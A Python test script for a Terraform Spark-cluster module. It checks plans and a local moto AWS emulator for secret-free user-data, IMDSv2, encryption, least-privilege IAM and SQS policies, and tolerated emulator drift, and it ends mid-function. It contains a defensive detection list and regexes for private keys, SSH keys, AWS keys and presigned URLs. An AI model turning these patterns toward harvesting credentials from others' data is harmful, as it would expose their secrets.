#!/usr/bin/env python3
"""Assertions for tests/terraform/run.sh.

  checks.py plan PLAN.json
      Every user-data value in a `terraform show -json` plan (instances and launch templates)
      is free of key material, secrets and presigned URLs; no launch configuration is planned;
      every node is IMDSv2-only with encrypted root storage.
  checks.py drift PLAN.json
      A second plan, right after apply against moto, changes nothing except the known places
      where moto answers differently from AWS (listed in MOTO_DRIFT, each with its reason). A
      resource that a quirk alone replaces (the master) is still compared attribute by
      attribute: only the quirk's paths and values known only after apply are skipped.
  checks.py moto ENDPOINT REGION CLUSTER WORKERS [--public-master] [--on-demand-base=N]
            [--worker-groups=N] [--master-groups=N]
      After `terraform apply` against moto: the user-data the emulator actually stores for every
      instance and launch-template version is clean, and the cluster has the shape sparkboot
      expects (one tagged master, WORKERS tagged spot workers in the ASG, loopback addresses
      only, no public IPs; with --public-master the master must have one and the workers still
      none; --on-demand-base is the group's expected on-demand base, 0 by default; the launch
      template gives workers, and the master's interface has, the cluster's group plus N-1
      extra).
  checks.py gone ENDPOINT REGION CLUSTER
      After `terraform destroy`: no live instance, Auto Scaling group, bucket, queue,
      EventBridge rule or IAM policy of CLUSTER is left in moto.
  checks.py watch ENDPOINT REGION CLUSTER OUTPUTS.json PLAN.json [--launch-timeout=S]
            [--terminate-timeout=S]
      The spot-churn plumbing as moto stores it and as the applied plan sent it: both lifecycle
      hooks (transition, heartbeat, default result CONTINUE, no target or role), the three
      EventBridge rules' patterns and targets, the queue's encryption, long polling, dead-letter
      redrive and policy (TLS only; SendMessage only from events.amazonaws.com for these rules),
      the watcher's IAM policy statement by statement, and the inventory's new keys.
  checks.py events ENDPOINT REGION CLUSTER
      Publishes lifecycle, spot interruption, rebalance and unrelated events with PutEvents and
      checks that exactly the wanted ones reach the queue.
  checks.py toggles PLAN.json
      A plan of tests/terraform/toggles: create = false plans nothing and its outputs are null;
      enable_watch = false plans no watch resource; the real-estate inputs reach the resources.
  checks.py upgrade-state STATE OUT
      Writes OUT: the applied STATE as the module's first version (no `create`, no count) would
      have left it: that version's resources un-indexed, the watch plumbing dropped.
  checks.py upgrade PLAN.json
      A plan of this version over that state (-refresh=false): each of the first version's
      resources is moved to [0] (moved.tf), only watch resources are created, and nothing else
      changes but the known moto quirks.
  checks.py selftest
      The detectors above flag planted key material, presigned URLs, open policies and
      non-quirk drift.

Exits 1 with one line per problem, 0 with a one-line summary. Only talks to ENDPOINT, which
run.sh guarantees is a moto server on 127.0.0.1.
"""

import base64
import binascii
import gzip
import ipaddress
import json
import re
import sys
import time
import urllib.parse

# Text that must never appear in user-data. Cloud-config keys that carry passwords or keys are
# listed too: the module's user-data has no business setting any of them. The X-Amz-* query
# parameters mark a presigned S3 URL (SigV4), which is a bearer credential; Signature= with
# AWSAccessKeyId= marks the older SigV2 form.
FORBIDDEN_SUBSTRINGS = [
    "PRIVATE KEY",
    "BEGIN",
    "ssh-rsa",
    "ssh-ed25519",
    "ssh-dss",
    "ecdsa-sha2-",
    "sk-ssh-",
    "sk-ecdsa-",
    "ssh_authorized_keys",
    "ssh_keys:",
    "chpasswd",
    "passwd:",
    "password:",
    "secret_access_key",
    "session_token",
    "X-Amz-Signature",
    "X-Amz-Credential",
    "X-Amz-Security-Token",
]
SIGV2_PRESIGNED = re.compile(r"[?&]AWSAccessKeyId=[^&\s]+.*[?&]Signature=|[?&]Signature=[^&\s]+.*[?&]AWSAccessKeyId=", re.S)

# AWS access key IDs, and 40-character base64 runs that look like secret access keys (mixed
# case, so a lower-case hex SHA-1 does not count).
ACCESS_KEY_ID = re.compile(r"(?<![A-Z0-9])(?:AKIA|ASIA|AIDA|AROA|AGPA|ANPA|ANVA|AIPA)[A-Z0-9]{16}(?![A-Z0-9])")
SECRET_LIKE = re.compile(r"(?<![A-Za-z0-9/+])[A-Za-z0-9/+]{40}(?![A-Za-z0-9/+=])")
HEX_SHA1 = re.compile(r"^[0-9a-f]{40}$")


def decode_user_data(value):
    """Returns the readable forms of a user-data value: itself and, when it is base64 (and
    maybe gzip inside), its decoded text."""
    forms = [value]
    try:
        raw = base64.b64decode(value, validate=True)
    except (binascii.Error, ValueError):
        return forms
    if raw[:2] == b"\x1f\x8b":
        try:
            raw = gzip.decompress(raw)
        except OSError:
            pass
    try:
        forms.append(raw.decode("utf-8"))
    except UnicodeDecodeError:
        forms.append(raw.decode("latin-1"))
    return forms


def secret_problems(where, value):
    problems = []
    if not isinstance(value, str) or value == "":
        return problems
    if HEX_SHA1.match(value):
        return [f"{where}: user-data is only a SHA-1 hash, so it cannot be inspected; pass it as user_data_base64"]
    for text in decode_user_data(value):
        lower = text.lower()
        for needle in FORBIDDEN_SUBSTRINGS:
            if needle.lower() in lower:
                problems.append(f"{where}: user-data contains {needle!r}")
        if ACCESS_KEY_ID.search(text):
            problems.append(f"{where}: user-data contains something shaped like an AWS access key ID")
        if SIGV2_PRESIGNED.search(text):
            problems.append(f"{where}: user-data contains a presigned URL (AWSAccessKeyId and Signature)")
        for m in SECRET_LIKE.finditer(text):
            s = m.group(0)
            if re.search(r"[A-Z]", s) and re.search(r"[a-z]", s) and re.search(r"[0-9/+]", s):
                problems.append(f"{where}: user-data contains a 40-character string shaped like an AWS secret key")
                break
    return sorted(set(problems))


def walk(obj, path=""):
    if isinstance(obj, dict):
        for k, v in obj.items():
            yield from walk(v, f"{path}.{k}" if path else k)
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from walk(v, f"{path}[{i}]")
    else:
        yield path, obj


def check_plan(plan_path):
    with open(plan_path) as f:
        plan = json.load(f)
    problems = []
    inspected = 0
    nodes = {"aws_instance": 0, "aws_launch_template": 0}
    for rc in plan.get("resource_changes", []):
        addr, rtype = rc["address"], rc["type"]
        after = (rc.get("change") or {}).get("after") or {}
        if rtype == "aws_launch_configuration":
            problems.append(f"{addr}: launch configurations are not allowed; use a launch template")
        for path, value in walk(after):
            leaf = path.rsplit(".", 1)[-1]
            if leaf in ("user_data", "user_data_base64") and isinstance(value, str) and value:
                inspected += 1
                problems += secret_problems(f"{addr} {path}", value)
        if rtype in nodes:
            nodes[rtype] += 1
            if not after.get("user_data") and not after.get("user_data_base64"):
                problems.append(f"{addr}: no user-data in the plan to inspect")
            meta = (after.get("metadata_options") or [{}])[0]
            if meta.get("http_tokens") != "required":
                problems.append(f"{addr}: metadata_options.http_tokens is not \"required\" (IMDSv2 only)")
            if rtype == "aws_instance":
                roots = after.get("root_block_device") or [{}]
                if not all(r.get("encrypted") for r in roots):
                    problems.append(f"{addr}: root volume is not encrypted")
            else:
                bdms = after.get("block_device_mappings") or []
                if not bdms or not all((b.get("ebs") or [{}])[0].get("encrypted") == "true" for b in bdms):
                    problems.append(f"{addr}: block device mappings are not all encrypted")
    for rtype, n in nodes.items():
        if n == 0:
            problems.append(f"plan has no {rtype}: nothing to check")
    return problems, f"plan: {inspected} user-data values inspected, {sum(nodes.values())} node definitions checked"


# moto's DescribeLifecycleHooks reports these two placeholders for every hook, whatever was set.
MOTO_HOOK_ROLE = "arn:aws:iam::1234567890:role/my-auto-scaling-role"
MOTO_HOOK_TARGET = "arn:aws:sqs:us-east-1:123456789012:my-queue"


def _json_equal(before, after):
    try:
        return json.loads(before) == json.loads(after)
    except (TypeError, ValueError):
        return False


# Where a plan made right after `terraform apply` against moto differs from the applied
# configuration only because moto's answers differ from AWS's: (resource type, changed-path
# regex, reason[, condition]). Each quirk names the one resource type and the attribute path(s)
# moto gets wrong. A condition, when given, gets the path's value before and after (UNKNOWN
# when it only becomes unknown) and the context of the change (`Ctx`), and must hold too, so
# such a quirk is tolerated only in exactly the shape moto produces. Only a quirk without a
# condition may force a replacement, and a resource replaced by quirks alone is still compared
# attribute by attribute (see drift_problems). Anything else that changes on a second plan is a
# real drift and fails.
UNKNOWN = object()
ACCOUNT_SLASH_SG = re.compile(r"^\d{12}/(sg-[0-9a-f]+)$")


class Ctx:
    """What a quirk's condition may look at besides the path's values: the whole change of the
    resource, and which (module, type) pairs this plan replaces."""

    def __init__(self, rc, replaced):
        self.rc = rc
        self.change = rc.get("change") or {}
        self.after = self.change.get("after") or {}
        self.module = rc.get("module_address", "")
        self.replaced = replaced

    def replaces(self, rtype):
        return (self.module, rtype) in self.replaced


def _sg_self_reference_form(before, after, ctx):
    # moto's DescribeSecurityGroupRules returns ReferencedGroupInfo {UserId, GroupId}; the
    # provider, which does not know the account (skip_requesting_account_id), writes that back as
    # "ACCOUNT/sg-ID". Tolerated only when it is the same group, written that way.
    m = ACCOUNT_SLASH_SG.match(before) if isinstance(before, str) else None
    return m is not None and m.group(1) == after


def _sg_dropped_description(before, after, ctx):
    # moto keeps a rule's description only in its CIDR range (SecurityGroupRule.description
    # reads ip_range), so for a rule that references a group the description comes back empty.
    # Tolerated only for such a rule, and only when the description went missing.
    return (before in (None, "") and isinstance(after, str) and after != ""
            and ctx.after.get("referenced_security_group_id") not in (None, ""))


def _zone_vpc_readded(ctx):
    return ((ctx.change.get("before") or {}).get("vpc") in ([], None)
            and len(ctx.after.get("vpc") or []) == 1)


MOTO_DRIFT = [
    ("aws_instance", r"^associate_public_ip_address$",
     "moto returns an empty NetworkInterfaces[].Association for a private instance, which the "
     "provider reads as a public IP, so it plans to replace the master"),
    ("aws_launch_template", r"^tag_specifications\[\d+\]\.(resource_type|tags\..*)$",
     "moto echoes the template's own tags as an extra 'launch-template' tag specification"),
    ("aws_launch_template", r"^(latest|default)_version$",
     "knock-on: a new template version follows the tag_specifications update above"),
    ("aws_autoscaling_group", r"^mixed_instances_policy\[0\]\.launch_template\[0\]\.launch_template_specification\[0\]\.version$",
     "knock-on: the group follows the template's new version"),
    ("aws_autoscaling_group", r"^capacity_reservation_specification\[0\]\.capacity_reservation_preference$",
     "moto omits CapacityReservationSpecification from DescribeAutoScalingGroups"),
    # The record's only value is the master's private IP; when the master is replaced (the
    # quirk above) that IP is unknown until apply. Tolerated only as "becomes unknown" and only
    # when this plan replaces an instance of the same module: a record that changes to another
    # known address, or becomes unknown without a replaced master, is a real drift.
    ("aws_route53_record", r"^records$",
     "knock-on: the master's private IP is unknown while its replacement is planned",
     lambda before, after, ctx: after is UNKNOWN and ctx.replaces("aws_instance")),
    # moto (route53 responses.create_hosted_zone) makes a zone private only when the request
    # carries HostedZoneConfig.PrivateZone; the provider sends just the VPC (AWS infers a private
    # zone from it), so moto stores a public zone and GetHostedZone lists no VPC. The provider
    # then plans to associate the configured VPC again. Tolerated only when the prior state has
    # no VPC at all and the plan adds exactly one, by ID (its region known after apply).
    ("aws_route53_zone", r"^vpc\[0\]\.vpc_id$",
     "moto stores the zone as public (the provider does not send HostedZoneConfig.PrivateZone), "
     "so GetHostedZone lists no VPC and the provider plans to associate it again",
     lambda before, after, ctx: before is None and _zone_vpc_readded(ctx) and isinstance(after, str)
     and after.startswith("vpc-")),
    ("aws_route53_zone", r"^vpc\[0\]\.vpc_region$",
     "moto stores the zone as public (the provider does not send HostedZoneConfig.PrivateZone), "
     "so GetHostedZone lists no VPC and the provider plans to associate it again",
     lambda before, after, ctx: before is None and after is UNKNOWN and _zone_vpc_readded(ctx)),
    ("aws_vpc_security_group_ingress_rule", r"^referenced_security_group_id$",
     "moto returns a group reference as ReferencedGroupInfo with its owner, which the provider "
     "(without the account ID) reads back as ACCOUNT/sg-ID",
     _sg_self_reference_form),
    ("aws_vpc_security_group_egress_rule", r"^referenced_security_group_id$",
     "moto returns a group reference as ReferencedGroupInfo with its owner, which the provider "
     "(without the account ID) reads back as ACCOUNT/sg-ID",
     _sg_self_reference_form),
    ("aws_vpc_security_group_ingress_rule", r"^description$",
     "moto drops the description of a rule that references a group (it keeps one only for CIDR ranges)",
     _sg_dropped_description),
    ("aws_vpc_security_group_egress_rule", r"^description$",
     "moto drops the description of a rule that references a group (it keeps one only for CIDR ranges)",
     _sg_dropped_description),
    ("aws_instance", r"^vpc_security_group_ids\[\d+\]$",
     "moto reports no security groups for an instance launched with a network-interface "
     "specification (the provider sends one whenever associate_public_ip_address is set), so "
     "the provider plans to add them back",
     lambda before, after, ctx: before is None),
    ("aws_autoscaling_lifecycle_hook", r"^role_arn$",
     "moto's DescribeLifecycleHooks reports a placeholder role for every hook",
     lambda before, after, ctx: before == MOTO_HOOK_ROLE and after is None),
    ("aws_autoscaling_lifecycle_hook", r"^notification_target_arn$",
     "moto's DescribeLifecycleHooks reports a placeholder SQS target for every hook",
     lambda before, after, ctx: before == MOTO_HOOK_TARGET and after is None),
    ("aws_autoscaling_lifecycle_hook", r"^notification_metadata$",
     "moto's DescribeLifecycleHooks drops the hook's notification metadata",
     lambda before, after, ctx: before in (None, "") and isinstance(after, str) and after != ""),
    ("aws_sqs_queue", r"^redrive_policy$",
     "moto returns RedrivePolicy as JSON with spaces after the separators, AWS compactly; "
     "the provider compares the strings",
     lambda before, after, ctx: _json_equal(before, after)),
    ("aws_iam_policy", r"^policy$",
     "knock-on: the document is read again during apply because a resource it names (the "
     "group, the queue) has a quirk update above",
     lambda before, after, ctx: after is UNKNOWN),
    ("aws_sqs_queue_policy", r"^policy$",
     "knock-on: the document is read again during apply because the queue has a quirk update above",
     lambda before, after, ctx: after is UNKNOWN),
]


def changed_paths(before, after, unknown, path=""):
    """Leaf paths where a planned change differs: values that change or become unknown."""
    for p, _, _ in changed_leaves(before, after, unknown, path):
        yield p


def changed_leaves(before, after, unknown, path=""):
    """(path, before, after) of every leaf a planned change alters; after is UNKNOWN when the
    value only becomes unknown."""
    if unknown is True:
        yield path, before, UNKNOWN
        return
    if isinstance(before, dict) or isinstance(after, dict):
        b = before if isinstance(before, dict) else {}
        a = after if isinstance(after, dict) else {}
        u = unknown if isinstance(unknown, dict) else {}
        for k in sorted(set(a) | set(b) | set(u)):
            yield from changed_leaves(b.get(k), a.get(k), u.get(k), f"{path}.{k}" if path else k)
    elif isinstance(before, list) or isinstance(after, list):
        b = before if isinstance(before, list) else []
        a = after if isinstance(after, list) else []
        u = unknown if isinstance(unknown, list) else []
        for i in range(max(len(a), len(b), len(u))):
            yield from changed_leaves(b[i] if i < len(b) else None, a[i] if i < len(a) else None,
                                      u[i] if i < len(u) else None, f"{path}[{i}]")
    elif before != after:
        yield path, before, after


def check_drift(plan_path):
    with open(plan_path) as f:
        plan = json.load(f)
    problems, tolerated = drift_problems(plan.get("resource_changes", []), "second plan")
    for addr in sorted(tolerated):
        for why in sorted(tolerated[addr]):
            print(f"  tolerated: {addr}: {why}")
    return problems, f"drift: {len(tolerated)} resources differ only by known moto quirks"


def drift_problems(resource_changes, what):
    """Problems with planned changes that are not known moto quirks, and the tolerated ones.

    A resource replaced only because of quirks (every replace path matches a quirk without a
    condition) is not excused as a whole: every other attribute of its prior state is compared
    with the planned one, skipping only what is unknown until apply (computed by the provider
    or the cloud), and any difference that no quirk explains fails. So the master, which moto
    makes replace on every plan, still has its user-data, tags, metadata options, instance type
    and the rest checked."""
    problems, tolerated = [], {}
    replaced = {(rc.get("module_address", ""), rc["type"]) for rc in resource_changes
                if "delete" in ((rc.get("change") or {}).get("actions") or [])
                and "create" in ((rc.get("change") or {}).get("actions") or [])}
    for rc in resource_changes:
        change = rc.get("change") or {}
        actions = change.get("actions") or []
        if actions in (["no-op"], ["read"]):
            continue
        addr, rtype = rc["address"], rc["type"]
        ctx = Ctx(rc, replaced)
        rules = [(rx, why, (cond[0] if cond else None)) for t, rx, why, *cond in MOTO_DRIFT if t == rtype]
        replacing = "delete" in actions
        if replacing:
            # Only a quirk without a condition may force a replacement, and a plain delete (no
            # create) is never a quirk.
            forcing = [".".join(map(str, p)) for p in change.get("replace_paths") or []]
            plain = [(rx, why) for rx, why, cond in rules if cond is None]
            bad = [p for p in forcing if not any(re.match(rx, p) for rx, _ in plain)] or ([] if forcing else ["(no replace_paths)"])
            if bad or "create" not in actions:
                problems.append(f"{addr}: {what} {'/'.join(actions)} forced by {bad or forcing}")
                continue
            tolerated[addr] = {why for rx, why in plain if any(re.match(rx, p) for p in forcing)}
        before_specs = (change.get("before") or {}).get("tag_specifications") or []
        differing = set()
        for path, b, a in changed_leaves(change.get("before"), change.get("after"), change.get("after_unknown")):
            if replacing and a is UNKNOWN:
                continue  # a new resource's computed value: known only after apply
            if replacing and a is None and b in (False, 0, ""):
                # Not a change: the provider (SDK v2) stores an unset attribute as its zero
                # value (hibernation = false), while a replacement is planned without prior
                # state, so the same unset attribute shows as null.
                continue
            differing.add(path)
            hits = [why for rx, why, cond in rules if re.match(rx, path) and (cond is None or cond(b, a, ctx))]
            m = re.match(r"^tag_specifications\[(\d+)\]", path)
            if m and hits and not (int(m.group(1)) < len(before_specs)
                                   and before_specs[int(m.group(1))].get("resource_type") == "launch-template"):
                hits = []  # only moto's extra 'launch-template' specification is tolerated
            if hits:
                tolerated.setdefault(addr, set()).update(hits)
            else:
                problems.append(f"{addr}: {what} changes {path}: {_short(b)} -> {_short(a)}"
                                + (" (on a replacement forced by a known moto quirk)" if replacing else ""))
        if replacing:
            same = sum(1 for p, v in _leaves(change.get("after"), change.get("after_unknown"))
                       if v is not None and p not in differing)
            tolerated[addr].add(f"replaced, yet compared: its other {same} planned values known before "
                                f"apply equal the prior state")
    return problems, tolerated


def _short(value):
    if value is UNKNOWN:
        return "(known after apply)"
    text = json.dumps(value)
    return text if len(text) <= 80 else text[:77] + "..."


def _leaves(value, unknown, path=""):
    """(path, value) of every leaf of a planned value that is known at plan time."""
    if unknown is True:
        return
    if isinstance(value, dict):
        u = unknown if isinstance(unknown, dict) else {}
        for k in sorted(value):
            yield from _leaves(value[k], u.get(k), f"{path}.{k}" if path else k)
    elif isinstance(value, list):
        u = unknown if isinstance(unknown, list) else []
        for i, v in enumerate(value):
            yield from _leaves(v, u[i] if i < len(u) else None, f"{path}[{i}]")
    else:
        yield path, value


def check_moto(endpoint, region, cluster, workers, public_master=False, on_demand_base=0, worker_groups=1,
               master_groups=1):
    """public_master: the master must have a public address (and still no worker may);
    on_demand_base: the group's expected on-demand base (0: all spot); worker_groups and
    master_groups: how many security groups a worker (in the launch template) and the master
    (on its network interface) have: the cluster's own plus extras."""
    import boto3  # from the test venv (a moto dependency)

    kw = dict(endpoint_url=endpoint, region_name=region,
              aws_access_key_id="testing", aws_secret_access_key="testing")
    ec2 = boto3.client("ec2", **kw)
    asg = boto3.client("autoscaling", **kw)
    problems = []

    reservations = ec2.describe_instances(Filters=[
        {"Name": "tag:sparkboot:cluster", "Values": [cluster]},
        {"Name": "instance-state-name", "Values": ["pending", "running"]},
    ])["Reservations"]
    instances = [i for r in reservations for i in r["Instances"]]
    by_role = {}
    for inst in instances:
        tags = {t["Key"]: t["Value"] for t in inst.get("Tags", [])}
        role = tags.get("sparkboot:role")
        by_role.setdefault(role, []).append(inst)
        iid = inst["InstanceId"]
        ip = inst.get("PrivateIpAddress", "")
        if not ip or not ipaddress.ip_address(ip).is_loopback:
            problems.append(f"{iid}: private IP {ip!r} is not a loopback address")
        if public_master and role == "master":
            if not inst.get("PublicIpAddress"):
                problems.append(f"{iid} (master): has no public IP, but this example's master is the jump host")
            # moto leaves Groups empty for an instance launched with a network-interface
            # specification; the interface itself carries the groups.
        elif inst.get("PublicIpAddress"):
            problems.append(f"{iid}: has a public IP {inst['PublicIpAddress']}")
        ud = ec2.describe_instance_attribute(InstanceId=iid, Attribute="userData").get("UserData", {}).get("Value", "")
        problems += secret_problems(f"instance {iid} ({role})", ud)
        if role == "master":
            # moto leaves the instance's Groups empty when it was launched with a network-interface
            # specification (a public address); the interface carries the groups either way.
            enis = ec2.describe_network_interfaces(Filters=[{"Name": "attachment.instance-id", "Values": [iid]}])["NetworkInterfaces"]
            master_sgs = sorted({g["GroupId"] for e in enis for g in e.get("Groups", [])})
            cluster_sgs = [g["GroupId"] for g in ec2.describe_security_groups(Filters=[
                {"Name": "tag:sparkboot:cluster", "Values": [cluster]},
                {"Name": "tag:Name", "Values": [f"{cluster}-nodes"]}])["SecurityGroups"]]
            if len(master_sgs) != master_groups or not set(cluster_sgs) & set(master_sgs):
                problems.append(f"{iid} (master): security groups {master_sgs} are not the cluster's "
                                f"{cluster_sgs} plus {master_groups - 1} extra")
        if not ud:
            problems.append(f"instance {iid} ({role}): no user-data stored")

    if len(by_role.get("master", [])) != 1:
        problems.append(f"expected 1 instance tagged sparkboot:role=master, found {len(by_role.get('master', []))}")
    if len(by_role.get("worker", [])) != workers:
        problems.append(f"expected {workers} instances tagged sparkboot:role=worker, found {len(by_role.get('worker', []))}")
    unknown = set(by_role) - {"master", "worker"}
    if unknown:
        problems.append(f"instances with unexpected sparkboot:role values: {sorted(map(str, unknown))}")

    sgs = ec2.describe_security_groups(Filters=[
        {"Name": "tag:sparkboot:cluster", "Values": [cluster]},
        {"Name": "tag:Name", "Values": [f"{cluster}-nodes"]},
    ])["SecurityGroups"]
    cluster_sg = sgs[0]["GroupId"] if len(sgs) == 1 else None
    if cluster_sg is None:
        problems.append(f"expected one security group tagged Name={cluster}-nodes, found {len(sgs)}")

    groups = asg.describe_auto_scaling_groups(AutoScalingGroupNames=[f"{cluster}-workers"])["AutoScalingGroups"]
    if len(groups) != 1:
        problems.append(f"Auto Scaling group {cluster}-workers not found")
    else:
        g = groups[0]
        if "LaunchConfigurationName" in g:
            problems.append("the worker group uses a launch configuration")
        mip = g.get("MixedInstancesPolicy") or {}
        dist = mip.get("InstancesDistribution") or {}
        if dist.get("SpotAllocationStrategy") != "price-capacity-optimized":
            problems.append(f"spot allocation strategy is {dist.get('SpotAllocationStrategy')!r}")
        if dist.get("OnDemandPercentageAboveBaseCapacity") != 0 or dist.get("OnDemandBaseCapacity") != on_demand_base:
            problems.append("worker group is not all spot" if on_demand_base == 0 else
                            f"worker group's on-demand base is {dist.get('OnDemandBaseCapacity')!r} "
                            f"(expected {on_demand_base}) or its on-demand share above it is not 0")
        if len((mip.get("LaunchTemplate") or {}).get("Overrides", [])) < 2:
            problems.append("worker group offers fewer than two instance types")
        if not g.get("CapacityRebalance"):
            problems.append("capacity rebalance is off")
        members = {i["InstanceId"] for i in g.get("Instances", [])}
        tagged = {i["InstanceId"] for i in by_role.get("worker", [])}
        if members != tagged:
            problems.append(f"ASG members {sorted(members)} differ from worker-tagged instances {sorted(tagged)}")
        lt = (mip.get("LaunchTemplate") or {}).get("LaunchTemplateSpecification") or {}
        if lt.get("LaunchTemplateId"):
            versions = ec2.describe_launch_template_versions(LaunchTemplateId=lt["LaunchTemplateId"])["LaunchTemplateVersions"]
            for v in versions:
                data = v.get("LaunchTemplateData", {})
                where = f"launch template {lt['LaunchTemplateId']} v{v.get('VersionNumber')}"
                problems += secret_problems(where, data.get("UserData", ""))
                if (data.get("MetadataOptions") or {}).get("HttpTokens") != "required":
                    problems.append(f"{where}: IMDSv2 is not required")
                nics = data.get("NetworkInterfaces") or [{}]
                groups = nics[0].get("Groups") or []
                if len(groups) != worker_groups or cluster_sg not in groups:
                    problems.append(f"{where}: worker security groups {groups} are not the cluster's "
                                    f"{cluster_sg} plus {worker_groups - 1} extra")
                if nics[0].get("AssociatePublicIpAddress"):
                    problems.append(f"{where}: workers get a public IP")

    summary = (f"moto: {len(instances)} instances ({len(by_role.get('master', []))} master, "
               f"{len(by_role.get('worker', []))} workers) at "
               + ", ".join(sorted(i.get("PrivateIpAddress", "?") for i in instances)))
    return problems, summary


# ---------------------------------------------------------------------------------------------
# Spot-churn plumbing (enable_watch)
# ---------------------------------------------------------------------------------------------

LIFECYCLE_DETAIL_TYPES = ["EC2 Instance-launch Lifecycle Action", "EC2 Instance-terminate Lifecycle Action"]


def expected_patterns(cluster):
    """The three EventBridge patterns, by rule name."""
    return {
        f"{cluster}-lifecycle": {
            "source": ["aws.autoscaling"],
            "detail-type": LIFECYCLE_DETAIL_TYPES,
            "detail": {"AutoScalingGroupName": [f"{cluster}-workers"]},
        },
        f"{cluster}-spot-interruption": {
            "source": ["aws.ec2"],
            "detail-type": ["EC2 Spot Instance Interruption Warning"],
        },
        f"{cluster}-rebalance": {
            "source": ["aws.ec2"],
            "detail-type": ["EC2 Instance Rebalance Recommendation"],
        },
    }


def _as_list(v):
    return v if isinstance(v, list) else [v]


def queue_policy_problems(where, policy_text, queue_arn, rule_arns):
    """The queue policy: a Deny of every sqs action without TLS, and exactly one Allow: of
    sqs:SendMessage, to events.amazonaws.com, from exactly these rules."""
    problems = []
    try:
        policy = json.loads(policy_text or "")
    except ValueError:
        return [f"{where}: no readable queue policy"]
    deny_tls = allows = 0
    for st in _as_list(policy.get("Statement", [])):
        effect, principal = st.get("Effect"), st.get("Principal")
        actions = _as_list(st.get("Action", []))
        cond = st.get("Condition") or {}
        if _as_list(st.get("Resource", [])) != [queue_arn]:
            problems.append(f"{where}: statement {st.get('Sid')!r} is not limited to {queue_arn}")
        if effect == "Deny":
            if (principal in ("*", {"AWS": "*"}) and actions == ["sqs:*"]
                    and cond == {"Bool": {"aws:SecureTransport": "false"}}):
                deny_tls += 1
            else:
                problems.append(f"{where}: unexpected Deny statement {st}")
        elif effect == "Allow":
            allows += 1
            if principal != {"Service": "events.amazonaws.com"}:
                problems.append(f"{where}: Allow to {principal!r}, not only to events.amazonaws.com")
            if actions != ["sqs:SendMessage"]:
                problems.append(f"{where}: Allow of {actions}, not only sqs:SendMessage")
            source = (cond.get("ArnEquals") or {}).get("aws:SourceArn")
            if set(cond) != {"ArnEquals"} or sorted(_as_list(source or [])) != sorted(rule_arns):
                problems.append(f"{where}: SendMessage is allowed with condition {cond}, "
                                f"not ArnEquals aws:SourceArn = the rules {sorted(rule_arns)}")
        else:
            problems.append(f"{where}: statement with effect {effect!r}")
    if deny_tls != 1:
        problems.append(f"{where}: no Deny of requests without TLS (aws:SecureTransport false)")
    if allows != 1:
        problems.append(f"{where}: {allows} Allow statements, expected exactly one (EventBridge)")
    return problems


def watch_policy_problems(where, document, queue_arn, asg_arn, bucket_arn):
    """The watcher's IAM policy: exactly these actions on exactly these resources."""
    expected = {
        "sqs:ReceiveMessage": [queue_arn],
        "sqs:DeleteMessage": [queue_arn],
        "sqs:ChangeMessageVisibility": [queue_arn],
        "sqs:GetQueueAttributes": [queue_arn],
        "sqs:GetQueueUrl": [queue_arn],
        "autoscaling:CompleteLifecycleAction": [asg_arn],
        "autoscaling:RecordLifecycleActionHeartbeat": [asg_arn],
        "ec2:DescribeInstances": ["*"],
        "autoscaling:DescribeAutoScalingGroups": ["*"],
        "autoscaling:DescribeScalingActivities": ["*"],
        "s3:GetObject": [f"{bucket_arn}/*"],
        "s3:PutObject": [f"{bucket_arn}/*"],
        "s3:ListBucket": [bucket_arn],
    }
    problems, granted = [], {}
    for st in _as_list(document.get("Statement", [])):
        if st.get("Effect") != "Allow":
            problems.append(f"{where}: statement {st.get('Sid')!r} is not an Allow")
            continue
        if "NotAction" in st or "NotResource" in st or "Condition" in st:
            problems.append(f"{where}: statement {st.get('Sid')!r} uses NotAction, NotResource or a condition")
        for action in _as_list(st.get("Action", [])):
            granted.setdefault(action, set()).update(_as_list(st.get("Resource", [])))
    for action, resources in sorted(granted.items()):
        if action not in expected:
            problems.append(f"{where}: grants {action}, which the watcher does not need")
        elif sorted(resources) != sorted(expected[action]):
            problems.append(f"{where}: {action} on {sorted(resources)}, expected {expected[action]}")
    for action in sorted(set(expected) - set(granted)):
        problems.append(f"{where}: does not grant {action}")
    return problems


def planned_resources(plan):
    """Every resource instance a `terraform show -json` plan creates or keeps, by address, with
    the values Terraform sends (`after`)."""
    return {rc["address"]: {"type": rc["type"], "values": (rc.get("change") or {}).get("after") or {}}
            for rc in plan.get("resource_changes", [])
            if rc.get("mode") == "managed" and "delete" not in ((rc.get("change") or {}).get("actions") or [])}


def check_watch(endpoint, region, cluster, outputs_path, plan_path, launch_timeout, terminate_timeout):
    import boto3

    kw = dict(endpoint_url=endpoint, region_name=region,
              aws_access_key_id="testing", aws_secret_access_key="testing")
    asg, events, sqs, iam = (boto3.client(n, **kw) for n in ("autoscaling", "events", "sqs", "iam"))
    problems = []
    with open(outputs_path) as f:
        outputs = {k: v.get("value") for k, v in json.load(f).items()}
    with open(plan_path) as f:
        resources = planned_resources(json.load(f))
    group_name = f"{cluster}-workers"

    # Lifecycle hooks, as moto stores them (transition, heartbeat, default result) ...
    hooks = {h["LifecycleHookName"]: h for h in
             asg.describe_lifecycle_hooks(AutoScalingGroupName=group_name)["LifecycleHooks"]}
    want = {
        f"{cluster}-worker-launch": ("autoscaling:EC2_INSTANCE_LAUNCHING", launch_timeout),
        f"{cluster}-worker-terminate": ("autoscaling:EC2_INSTANCE_TERMINATING", terminate_timeout),
    }
    if set(hooks) != set(want):
        problems.append(f"lifecycle hooks of {group_name}: {sorted(hooks)}, expected {sorted(want)}")
    for name, (transition, timeout) in want.items():
        h = hooks.get(name)
        if not h:
            continue
        if h.get("LifecycleTransition") != transition:
            problems.append(f"hook {name}: transition {h.get('LifecycleTransition')!r}, expected {transition}")
        if h.get("HeartbeatTimeout") != timeout:
            problems.append(f"hook {name}: heartbeat timeout {h.get('HeartbeatTimeout')!r}, expected {timeout}")
        if h.get("DefaultResult") != "CONTINUE":
            problems.append(f"hook {name}: default result {h.get('DefaultResult')!r}, expected CONTINUE "
                            "(a watcher that is down must neither shrink nor stall the group)")
    # ... and as Terraform sent them: moto answers placeholders for the notification target, the
    # role and the metadata (and the provider reads them back into the state), so those come
    # from the applied plan. No target and no role: lifecycle actions go to EventBridge by default.
    planned_hooks = {a: r for a, r in resources.items() if r["type"] == "aws_autoscaling_lifecycle_hook"}
    if len(planned_hooks) != 2:
        problems.append(f"{len(planned_hooks)} lifecycle hooks in the plan, expected 2")
    for address, r in planned_hooks.items():
        v = r["values"]
        if v.get("notification_target_arn") or v.get("role_arn"):
            problems.append(f"{address}: sets a notification target or role; EventBridge needs neither")
        try:
